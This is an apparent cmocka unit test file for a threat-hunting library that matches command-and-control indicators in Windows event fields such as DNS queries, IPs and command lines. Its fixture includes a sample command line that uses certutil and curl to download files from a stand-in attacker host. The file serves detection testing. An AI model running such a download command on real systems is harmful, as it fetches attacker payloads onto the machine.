/* C2 IOCs in events: the hook hunt --iocs calls per event. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "plainsight.h"

typedef struct seen {
    const char *iocs[8];
    const char *fields[8];
    int scores[8];
    size_t n;
} seen;

static int on_hit(void *ctx, const ps_ioc_hit *hit, const ps_field *field, const ps_event *ev)
{
    (void)ev;
    seen *s = ctx;
    if (s->n < 8) {
        s->iocs[s->n] = hit->ioc;
        s->fields[s->n] = field->name;
        s->scores[s->n] = hit->score;
    }
    s->n++;
    return 0;
}

static ps_field field(const char *path, const char *value)
{
    const char *dot = strrchr(path, '.');
    ps_field f = {path, dot + 1, value, (uint32_t)strlen(path), (uint32_t)strlen(dot + 1),
                  (uint32_t)strlen(value), PS_KIND_STRING};
    return f;
}

static void test_dns_network_and_command_line(void **state)
{
    (void)state;
    const char *list = "# APT10 C2\nevil-c2.example;90\n203.0.113.7\n";
    ps_iocs *iocs = ps_iocs_new();
    assert_int_equal(ps_iocs_load_mem(iocs, "c2.txt", list, strlen(list), PS_IOC_C2, NULL, NULL),
                     PS_OK);
    ps_field dns[] = {
        field("Event.System.Computer", "host.evil-c2.example"), /* the machine itself: ignored */
        field("Event.EventData.QueryName", "cdn.EVIL-C2.example"),
        field("Event.EventData.QueryResults", "::ffff:203.0.113.7;"),
        field("Event.EventData.Image", "C:\\Windows\\notevil-c2.example.exe"),
    };
    ps_event ev = {.fields = dns, .nfields = 4};
    seen s = {0};
    assert_int_equal(ps_iocs_match_event(iocs, &ev, on_hit, &s), 2);
    assert_string_equal(s.iocs[0], "evil-c2.example");
    assert_string_equal(s.fields[0], "QueryName");
    assert_int_equal(s.scores[0], 90);
    assert_string_equal(s.iocs[1], "203.0.113.7");
    assert_string_equal(s.fields[1], "QueryResults");

    ps_field cmd[] = {
        field("Event.EventData.CommandLine",
              "certutil -urlcache -f http://evil-c2.example/a.exe a.exe & curl https://evil-c2.example/b"),
        field("Event.EventData.DestinationIp", "203.0.113.70"), /* another address */
    };
    ps_event ev2 = {.fields = cmd, .nfields = 2};
    seen s2 = {0};
    assert_int_equal(ps_iocs_match_event(iocs, &ev2, on_hit, &s2), 1); /* once per event */
    assert_string_equal(s2.fields[0], "CommandLine");

    assert_string_equal(ps_ioc_level_for_score(100), "high");
    assert_string_equal(ps_ioc_level_for_score(90), "medium");
    assert_string_equal(ps_ioc_level_for_score(40), "low");
    assert_string_equal(ps_ioc_level_for_score(0), "informational");
    ps_iocs_free(iocs);
}

static int count_hits(void *ctx, const ps_ioc_hit *hit, const ps_field *field, const ps_event *ev)
{
    (void)hit, (void)field, (void)ev;
    (*(size_t *)ctx)++;
    return 0;
}

/* Many indicators in one event: every one reported, each once, past the
 * sizes kept on the stack (16 hits per field, 32 remembered indicators). */
static void test_many_indicators_in_one_event(void **state)
{
    (void)state;
    char list[4096] = "", text[4096] = "";
    for (int i = 0; i < 40; i++) {
        char d[64];
        snprintf(d, sizeof d, "c2-%02d.example.net", i);
        strcat(list, d);
        strcat(list, "\n");
        strcat(text, "http://");
        strcat(text, d);
        strcat(text, "/x ");
    }
    ps_iocs *iocs = ps_iocs_new();
    assert_int_equal(ps_iocs_load_mem(iocs, "c2.txt", list, strlen(list), PS_IOC_C2, NULL, NULL),
                     PS_OK);
    ps_field f[] = {field("Event.EventData.CommandLine", text),
                    field("Event.EventData.ParentCommandLine", text)};
    ps_event ev = {.fields = f, .nfields = 2};
    size_t n = 0;
    assert_int_equal(ps_iocs_match_event(iocs, &ev, count_hits, &n), 40);
    assert_int_equal(n, 40);
    ps_iocs_free(iocs);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_dns_network_and_command_line),
        cmocka_unit_test(test_many_indicators_in_one_event),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
